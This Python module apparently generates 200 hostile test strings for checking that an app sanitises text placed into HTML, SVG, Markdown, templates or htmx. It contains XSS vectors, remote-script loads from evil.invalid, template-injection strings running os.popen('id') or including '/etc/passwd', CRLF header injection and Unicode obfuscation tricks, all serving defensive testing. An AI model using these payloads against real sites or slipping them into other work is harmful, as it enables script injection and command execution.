"""Texts that would run, ask elsewhere, or change a page where one is taken for markup, script, style or template.

Each sets `window.ran`, opens a dialog, or asks at `evil.invalid`, unless it is text and nothing else.
"""

from itertools import cycle
from typing import Final

#: What ends the place that a text may have been put into.
_ENDINGS: Final = (
    "",
    '">',
    "'>",
    "</script>",
    "</textarea>",
    "</title></head><body>",
    "--><",
    "</svg>",
    "</code></pre></td></table>",
    '\\"});',
    "</style>",
    "]]>",
)
_BODIES: Final = (
    "<script>window.ran=1</script>",
    "<ScRiPt/x>window.ran=1</sCrIpT >",
    "<script src=//evil.invalid/x.js></script>",
    "<script type=module>import('https://evil.invalid/m.js')</script>",
    "<img src=x onerror=window.ran=1>",
    "<img src=https://evil.invalid/i.png>",
    "<img/src/onerror=alert(1)//",
    "<svg onload=window.ran=1>",
    "<svg><script>window.ran=1</script></svg>",
    "<svg><a xlink:href='javascript:window.ran=1'><text y=9>x</text></a></svg>",
    "<svg><animate attributeName=href values=javascript:window.ran=1>",
    "<svg><use href='https://evil.invalid/s.svg#x'/></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>parent.ran=1</script>'>",
    "<iframe src=javascript:parent.ran=1></iframe>",
    "<iframe src='data:text/html,<script>parent.ran=1</script>'></iframe>",
    "<object data='data:text/html,<script>1</script>'></object>",
    "<embed src=//evil.invalid/e.swf>",
    "<a href=javascript:window.ran=1>press</a>",
    "<a href='java\tscript:window.ran=1' autofocus>press</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>press</a>",
    "<a ping=//evil.invalid/ping href=/console/>press</a>",
    "<form action=//evil.invalid/f><button autofocus>Send</button></form>",
    "<button formaction=javascript:window.ran=1>go</button>",
    "<input autofocus onfocus=window.ran=1>",
    "<select autofocus onfocus=window.ran=1></select>",
    "<details open ontoggle=window.ran=1>",
    "<video><source onerror=window.ran=1></video>",
    "<audio src=//evil.invalid/a.ogg autoplay></audio>",
    "<base href=//evil.invalid/>",
    "<meta http-equiv=refresh content='0;url=//evil.invalid/'>",
    '<meta http-equiv=Content-Security-Policy content="default-src *">',
    "<link rel=stylesheet href=//evil.invalid/s.css>",
    "<link rel=prefetch href=//evil.invalid/p>",
    "<style>@import url(//evil.invalid/s.css);*{color:red}</style>",
    "<p style='background:url(//evil.invalid/b.png)'>styled</p>",
    '<div style="width:expression(window.ran=1)">x</div>',
    "<div hx-get=//evil.invalid/hx hx-trigger=load>x</div>",
    "<div data-hx-get=/console/runs data-hx-trigger=load data-hx-target=body>x</div>",
    "<div hx-on:load=window.ran=1 hx-on::after-init='window.ran=1'>x</div>",
    "<div hx-on='load: window.ran=1' data-hx-on:htmx:load=window.ran=1>x</div>",
    '<div hx-trigger="load[window.ran=1]" hx-get=/console/>x</div>',
    "<div hx-vals='js:{x:window.ran=1}' hx-post=/console/sign-out hx-trigger=load>x</div>",
    "<template hx type=partial hx-target=body><script>window.ran=1</script></template>",
    "<hx-partial hx-target=body><img src=x onerror=window.ran=1></hx-partial>",
    "<noscript><p title='</noscript><img src=x onerror=window.ran=1>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=window.ran=1&gt;'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=window.ran=1>",
    "<table><tr><td><select><option><style></option></select><img src=x onerror=window.ran=1></style>",
    "<x contenteditable onblur=window.ran=1 tabindex=1 id=x>y</x>",
    "<body onpageshow=window.ran=1 onload=window.ran=1>",
    "<marquee onstart=window.ran=1>m</marquee>",
    "<input name=form_token value=x><input name=attributes>",
    "<img name=getElementById><form id=main name=querySelectorAll>",
    "<section id=output data-output=//evil.invalid/o data-marks=x>x</section>",
    "<section id=run data-hx-get=//evil.invalid/r data-hx-trigger='every 1s'>x</section>",
    "javascript:window.ran=1",
    "JaVaScRiPt&colon;window.ran=1",
    "data:text/html,<script>window.ran=1</script>",
    '" onmouseover=window.ran=1 autofocus onfocus=window.ran=1 x="',
    "' onfocus='window.ran=1' autofocus '",
    "` onerror=window.ran=1 `",
    " autofocus onfocus=window.ran=1 ",
    "';window.ran=1;//",
    '";window.ran=1;//',
    "${window.ran=1}",
    "\\u003cimg src=x onerror=window.ran=1\\u003e",
    "&lt;script&gt;window.ran=1&lt;/script&gt;",
    "&#60;img src=x onerror=window.ran=1&#62;",
    "&#x3c;svg/onload=window.ran=1&#x3e;",
    "%3Cscript%3Ewindow.ran=1%3C/script%3E",
    "+ADw-script+AD4-window.ran=1+ADw-/script+AD4-",
    "\u02bascript\u02bb window.ran=1 \uff1cscript\uff1ewindow.ran=1\uff1c/script\uff1e",
    "{{ 7 * 7 }}{{ self.__init__.__globals__ }}",
    "{% include '/etc/passwd' %}{% raw %}",
    "{# {{ cycler.__init__.__globals__.os.popen('id').read() }} #}",
    "{{constructor.constructor('window.ran=1')()}}",
    "<%= window.ran=1 %>#{7*7}${{7*7}}",
    "[press](javascript:window.ran=1)",
    "![i](https://evil.invalid/md.png)",
    "<https://evil.invalid/> [x]: javascript:window.ran=1",
    "```\n<img src=x onerror=window.ran=1>\n```",
    "\u202e>tpircs/<1=nar.wodniw>tpircs<\u202c",
    "\u2066<img src=x onerror=window.ran=1>\u2069\u2067x\u2069",
    "\x07\x1b]8;;https://evil.invalid/\x1b\\press\x1b]8;;\x1b\\\x7f\x9f",
    "\u200b<\u200bscript>window.ran=1</script>\ufeff\u2060",
    "\u2028window.ran=1\u2029<script>window.ran=1</script>",
    "\U0001f600\U000e0041\ud7ff<svg/onload=window.ran=1>",
    'data: x\n\nevent: done\ndata: {"status": "<script>window.ran=1</script>"}\n\n',
    "\r\nSet-Cookie: a=b\r\nContent-Type: text/html\r\n\r\n<script>window.ran=1</script>",
    "url(javascript:window.ran=1)",
    "#x{background:url(//evil.invalid/c.png)}",
)
#: How many there are.
NUMBER: Final = 200


def hostile_texts() -> tuple[str, ...]:
    """Return `NUMBER` different texts: each body, then as many again behind what ends the place of a text."""
    endings = cycle(_ENDINGS[1:])
    found = dict.fromkeys(_BODIES)
    while len(found) < NUMBER:
        for body in _BODIES:
            found.setdefault(f"{next(endings)}{body}")
    return tuple(found)[:NUMBER]
